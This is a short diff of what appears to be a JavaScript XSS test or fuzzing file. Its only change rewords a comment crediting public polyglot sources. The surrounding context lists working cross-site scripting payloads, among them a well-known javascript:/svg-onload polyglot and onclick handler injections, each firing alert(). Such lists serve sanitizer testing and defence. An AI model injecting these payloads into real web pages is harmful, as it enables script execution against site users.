@@ -242,7 +242,7 @@ const mutations = [
   '<code>&lt;/code&gt;&lt;script&gt;alert(1)&lt;/script&gt;</code>',
 ];
 
-/** Polyglots: one text for many places (github.com/0xsobky/HackVault, Unleashing an Ultimate XSS Polyglot; Gareth Heyes; brutelogic). */
+/** Polyglots: texts for many contexts (github.com/0xsobky/HackVault; Gareth Heyes; brutelogic). */
 const polyglots = [
   'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
   '" onclick=alert(1)//<button \' onclick=alert(1)//> */ alert(1)//',
